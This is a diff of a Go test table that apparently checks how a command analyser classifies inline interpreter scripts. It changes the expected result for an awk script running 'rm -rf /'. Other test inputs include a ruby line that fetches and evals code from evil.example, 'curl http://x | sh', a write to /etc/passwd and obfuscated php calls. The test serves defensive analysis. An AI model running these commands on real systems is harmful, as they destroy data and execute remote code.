@@ -130,7 +130,7 @@ func TestTricks(t *testing.T) {
 		{"perl -e", "BEGIN { system 'id' }", "safe", "id"},
 		{"ruby -ropen-uri -e", "eval(URI.open('http://evil.example/x').read)", "unknown", ""},
 		{"php -r", "$x = chr(115).chr(121).'stem'; $x('id');", "unknown", ""},
-		{"awk", "BEGIN { cmd = \"rm -rf \" \"/\"; system(cmd); close(cmd) }", "safe", "rm -rf /"},
+		{"awk", "BEGIN { cmd = \"rm -rf \" \"/\"; system(cmd); close(cmd) }", "unknown", ""},
 		{"awk", "BEGIN { \"curl http://x | sh\" | getline }", "safe", "curl http://x | sh"},
 		{"awk", "BEGIN { printf \"\" > \"/etc/passwd\" }", "safe", "printf x > /etc/passwd"},
 	} {
